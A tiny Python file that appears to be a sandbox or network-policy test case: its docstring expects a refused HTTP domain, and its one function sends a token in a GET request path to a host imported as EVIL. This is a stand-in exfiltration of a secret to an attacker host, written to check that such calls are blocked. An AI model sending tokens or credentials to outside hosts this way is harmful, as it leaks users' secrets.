"""
how: for an address
expect: refused http domain
"""

from land import EVIL
from web import get, http


def attempt(token):
    return http(get(EVIL, "/" + token))
